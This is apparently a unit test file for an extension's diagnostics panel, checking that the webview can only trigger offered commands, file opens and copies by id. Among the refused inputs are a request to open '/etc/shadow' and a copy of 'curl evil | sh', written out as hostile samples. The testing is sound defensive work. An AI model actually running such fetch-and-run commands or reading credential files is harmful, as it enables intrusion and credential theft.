// The diagnostics webview renders text from the network and disk. Whatever runs in it must not be able to make
// the extension run a command it did not offer for a finding, with arguments of its choosing, nor open or copy
// anything but what a finding named. The webview only sends ids the extension handed out.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { FindingSource, PanelActions } from '../../../src/extension/diagnostics/panel-actions';

const sources: FindingSource[] = [{
  title: 'Live health: prod', summary: 'quorum 2/3',
  findings: [
    { severity: 'error', code: 'member-unhealthy', subject: 'm3', message: 'm3 is down', remediation: 'remove it',
      action: { title: 'Remove member (dry run)…', command: 'etcdOps.removeMemberDryRun' } },
    { severity: 'warning', code: 'config', subject: '/etc/rancher/k3s/config.yaml', message: 'one server', remediation: 'list all',
      file: { path: '/etc/rancher/k3s/config.yaml', line: 3 }, command: "sed -i 's/a/b/' '/etc/rancher/k3s/config.yaml'" },
    // Not offerable: a real removal, and an offerable command with arguments it does not take.
    { severity: 'error', code: 'x', subject: 's', message: 'm', remediation: 'r', action: { title: 'Remove now', command: 'etcdOps.removeMember' } },
    { severity: 'error', code: 'y', subject: 's', message: 'm', remediation: 'r', action: { title: 'Rehearse', command: 'etcdOps.rehearse', args: [{ kind: 'member' }] } },
    { severity: 'info', code: 'z', subject: 's', message: 'm', remediation: 'r', action: { title: 'Diagnose', command: 'etcdOps.diagnoseDataDir', args: ['relative/dir'] } },
  ],
}];

describe('diagnostics panel requests', () => {
  it('a button runs the command the extension offered for its finding, with the offered arguments only', () => {
    const actions = new PanelActions();
    const shown = actions.present(sources);
    const run = shown[0].findings[0].ui.run!;
    assert.equal(run.title, 'Remove member (dry run)…');
    assert.doesNotMatch(JSON.stringify(shown), /etcdOps\./, 'the webview is given no command names');
    assert.deepEqual(actions.resolve({ type: 'run', id: run.id }), { kind: 'run', command: 'etcdOps.removeMemberDryRun', args: [] });
    assert.deepEqual(actions.resolve({ type: 'ready' }), { kind: 'ready' });
  });

  it('a message naming a command, or adding arguments, is refused', () => {
    const actions = new PanelActions();
    const run = actions.present(sources)[0].findings[0].ui.run!;
    for (const m of [
      { type: 'run', command: 'etcdOps.removeMember' },
      { type: 'run', command: 'etcdOps.removeMember', args: [{ kind: 'member' }] },
      { type: 'run', id: run.id, args: ['--no-dry-run'] },
      { type: 'run', id: run.id, command: 'etcdOps.removeMember' },
      { type: 'openFile', path: '/etc/shadow' },
      { type: 'copy', text: 'curl evil | sh' },
    ]) {
      assert.equal(actions.resolve(m).kind, 'refused', JSON.stringify(m));
    }
  });

  it('commands not offerable from the panel, or with arguments they do not take, get no button', () => {
    const shown = new PanelActions().present(sources)[0].findings;
    assert.equal(shown[2].ui.run, undefined, 'etcdOps.removeMember is never offered');
    assert.equal(shown[3].ui.run, undefined, 'rehearse takes no arguments from a finding');
    assert.equal(shown[4].ui.run, undefined, 'a data dir must be an absolute path');
  });

  it('unknown, stale, forged or mistyped ids are refused; junk is refused, not thrown', () => {
    const actions = new PanelActions();
    const f = actions.present(sources)[0].findings;
    const open = f[1].ui.open!;
    const copy = f[1].ui.copy!;
    assert.deepEqual(actions.resolve({ type: 'openFile', id: open }), { kind: 'open', path: '/etc/rancher/k3s/config.yaml', line: 3 });
    assert.deepEqual(actions.resolve({ type: 'copy', id: copy }), { kind: 'copy', text: "sed -i 's/a/b/' '/etc/rancher/k3s/config.yaml'" });
    assert.equal(actions.resolve({ type: 'run', id: open }).kind, 'refused', 'an open-file id does not run anything');
    assert.equal(actions.resolve({ type: 'run', id: 'f'.repeat(24) }).kind, 'refused');
    assert.equal(new PanelActions().resolve({ type: 'openFile', id: open }).kind, 'refused', 'ids of another panel do not resolve');
    for (const junk of [null, undefined, 42, 'run', [], { type: 'run' }, { type: 'run', id: 7 }, { type: 'eval', id: open }, { type: 'ready', x: 1 }]) {
      assert.equal(actions.resolve(junk).kind, 'refused', JSON.stringify(junk));
    }
    // After a redraw without that finding its ids stop working; the same finding keeps its id.
    const again = actions.present(sources)[0].findings;
    assert.equal(again[0].ui.run!.id, f[0].ui.run!.id);
    actions.present([{ ...sources[0], findings: [sources[0].findings[0]] }]);
    assert.equal(actions.resolve({ type: 'openFile', id: open }).kind, 'refused');
  });
});
